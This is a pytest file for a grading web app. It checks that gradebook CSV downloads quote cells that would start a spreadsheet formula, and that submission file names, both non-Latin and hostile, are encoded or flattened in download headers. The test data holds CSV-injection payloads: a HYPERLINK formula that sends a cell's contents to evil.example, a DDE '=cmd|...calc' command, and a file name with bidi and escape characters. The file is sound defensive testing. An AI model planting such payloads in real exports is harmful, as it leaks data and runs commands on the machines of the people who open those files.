"""What staff download: the gradebook CSVs (the page's and the API's) never hand a spreadsheet a
formula from a roster, and a submission keeps its file name in any script. Through the real app,
on its own SQLite database (tests/web/conftest.py's `site`)."""
from __future__ import annotations

import csv
import io
import urllib.parse

from grader.storage.db import session_scope
from grader.storage.users import add_user
from support import PERCEPTRON, perceptron_result, stored_graded

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"see grades")'


def test_gradebook_downloads_never_start_a_cell_with_a_formula(site):
    with session_scope(site.config) as s:
        add_user(s, "@SUM", email="=cmd|'/Ccalc'!A0@evil.example", section=HYPERLINK)
        add_user(s, "-5", section="\t=1+1")
    stored_graded(site.config, "@SUM", PERCEPTRON, perceptron_result(score=3.0), exercise="perceptron")
    stored_graded(site.config, "-5", PERCEPTRON, perceptron_result(score=2.5), exercise="perceptron")
    ines = site.client("ines")
    token = {"Authorization": f"Bearer {site.token('ines')}"}
    downloads = {"page csv": ines.get("/staff/grades.csv"),
                 "page canvas": ines.get("/staff/grades.csv?format=canvas"),
                 "api csv": ines.get("/api/v1/grades", headers=token),
                 "api canvas": ines.get("/api/v1/grades?format=canvas", headers=token)}
    for what, response in downloads.items():
        assert response.status_code == 200, (what, response.data[:300])
        rows = list(csv.reader(io.StringIO(response.get_data(as_text=True))))
        cells = [cell for row in rows[1:] if row[0] != "Points Possible" for cell in row]
        # the people's cells are kept, behind a quote; the scores are plain numbers
        assert "'@SUM" in cells and "'-5" in cells and "'" + HYPERLINK in cells, (what, rows)
        assert "3" in cells and "2.5" in cells, (what, rows)
        assert not [c for c in cells if c.startswith(FORMULA_STARTS)], (what, rows)
    by_name = {row[0]: row for row in csv.reader(io.StringIO(downloads["page csv"].get_data(as_text=True)))}
    assert by_name["'@SUM"][:3] == ["'@SUM", "'=cmd|'/Ccalc'!A0@evil.example", "'" + HYPERLINK]
    assert by_name["'-5"][:3] == ["'-5", "", "'\t=1+1"]


def test_a_file_name_in_any_script_downloads_with_its_name(site):
    """Before: the name went into the header as it was, which is not Latin-1 (a server cannot send
    it); now RFC 5987's filename* carries it, and filename= an ASCII stand-in."""
    alice = site.client("alice")
    assert site.upload(alice, filename="日本語 ノート.py").status_code in (302, 303)
    with session_scope(site.config) as s:
        from grader.storage.submissions import submission_rows
        [row] = submission_rows(s, exercise_id="perceptron")
    assert row.filename == "日本語 ノート.py"
    download = site.client("tina").get(f"/staff/submissions/{row.id}/file")
    assert download.status_code == 200
    assert download.data == PERCEPTRON
    assert download.mimetype == "application/octet-stream"
    disposition = download.headers["Content-Disposition"]
    disposition.encode("latin-1")                       # a header a real server can send
    assert disposition.startswith("attachment;")
    params = dict(part.strip().split("=", 1) for part in disposition.split(";")[1:])
    assert urllib.parse.unquote(params["filename*"].removeprefix("UTF-8''")) == "日本語_ノート.py"
    assert params["filename"].strip('"').isascii() and params["filename"].strip('"').endswith(".py")


def test_a_hostile_file_name_is_flattened_in_the_download(site):
    """Quotes, control and bidi characters never reach the header as they are (as before)."""
    submission_id = stored_graded(site.config, "alice", PERCEPTRON, perceptron_result(), exercise="perceptron",
                                  filename='a"b\u202egnp\x1b[2J.py')
    disposition = site.client("tina").get(f"/staff/submissions/{submission_id}/file").headers["Content-Disposition"]
    kind, _, name = disposition.partition("; ")
    assert (kind, name.removeprefix("filename=").strip('"')) == ("attachment", "a_b_gnp__2J.py"), disposition
